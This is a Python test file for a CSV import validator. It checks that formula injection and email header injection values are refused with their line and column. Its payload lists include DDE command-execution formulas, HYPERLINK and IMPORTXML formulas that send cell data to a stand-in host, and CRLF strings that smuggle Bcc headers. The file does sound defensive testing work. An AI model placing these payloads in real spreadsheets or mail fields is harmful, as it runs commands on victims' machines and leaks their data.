"""CSV / formula and header injection at import: a value a spreadsheet would run, or a line break
a mailer would read as a new header, is refused with its line and column; nothing is imported."""

from __future__ import annotations

import csv
import io

import pytest

from review.audiences import parse_csv
from review.brands import BrandPolicy
from review.errors import AudienceImportError
from review.fields import FieldSpec

POLICY = BrandPolicy(
    slug="lab",
    name="Lab",
    industry="x",
    allowed_fields=("first_name", "city", "note", "email", "phone", "tenure"),
    fields=(
        FieldSpec("first_name", "name", 40),
        FieldSpec("city", "city", 60),
        FieldSpec("note", "text", 200),
        FieldSpec("email", "email"),
        FieldSpec("phone", "phone"),
        FieldSpec("tenure", "integer", 18, (), 0, 100),
    ),
)
COLUMNS = ["first_name", "city", "note", "email", "phone", "tenure"]
GOOD = {"first_name": "Ann", "city": "Leeds", "note": "Prefers mornings", "email": "ann@example.com", "phone": "+44 20 7946 0958", "tenure": "3"}

FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("http://evil.example/?v=",A2),"//a")',
    '=DDE("cmd";"/C calc";"!A0")',
    "\t=1+1",  # stripped at import, then still a formula
    "\r=1+1",
    "＝1+1",  # fullwidth equals: not a formula to a spreadsheet, but not a name either
]
HEADER_INJECTION = [
    "Ann\r\nBcc: victim@example.com",
    "Ann\nSubject: You won",
    "Ann\rX-Header: 1",
    "Ann\u2028Bcc: x@example.com",
    "Ann\x85Bcc: x@example.com",
    "Ann\x00",
    "Ann\x1b[31m",
]


def _csv(rows: list[dict[str, str]]) -> str:
    out = io.StringIO()
    w = csv.writer(out, lineterminator="\n", quoting=csv.QUOTE_ALL)
    w.writerow(["id", *COLUMNS, "personalization_consent"])
    for i, r in enumerate(rows, 1):
        w.writerow([f"R{i}", *(r[c] for c in COLUMNS), "yes"])
    return out.getvalue()


@pytest.mark.parametrize("column", COLUMNS)
@pytest.mark.parametrize("payload", FORMULAS + HEADER_INJECTION)
def test_refused_in_every_column_with_line_and_column(column: str, payload: str) -> None:
    with pytest.raises(AudienceImportError) as e:
        parse_csv(_csv([GOOD, {**GOOD, column: payload}]), POLICY, "x.csv")
    assert len(e.value.problems) == 1, e.value.problems
    line, reason = e.value.problems[0]
    assert line == 3 and reason.startswith(f"'{column}' (column {COLUMNS.index(column) + 2}) "), reason
    assert "nothing imported" in str(e.value)


@pytest.mark.parametrize("payload", FORMULAS[:6] + HEADER_INJECTION[:2])
def test_refused_as_a_recipient_id(payload: str) -> None:
    data = _csv([GOOD]).replace('"R1"', '"' + payload.replace('"', '""') + '"', 1)
    with pytest.raises(AudienceImportError) as e:
        parse_csv(data, POLICY)
    assert e.value.problems[0][0] == 2 and e.value.problems[0][1].startswith("id "), e.value.problems


def test_ordinary_values_that_start_like_numbers_are_kept() -> None:
    parsed = parse_csv(_csv([GOOD, {**GOOD, "phone": "+1 (555) 010-9999", "tenure": "0"}]), POLICY)
    assert [r[1]["phone"] for r in parsed.rows] == ["+44 20 7946 0958", "+1 (555) 010-9999"]


def test_a_giant_field_is_a_malformed_row_not_a_crash() -> None:
    data = _csv([GOOD]) + "R2," + '"' + "A" * 200_000 + '"' + ",Leeds,x,a@b.co,123456,1,yes\n"
    with pytest.raises(AudienceImportError) as e:
        parse_csv(data, POLICY)
    assert "malformed CSV" in str(e.value) or "longer than" in str(e.value)
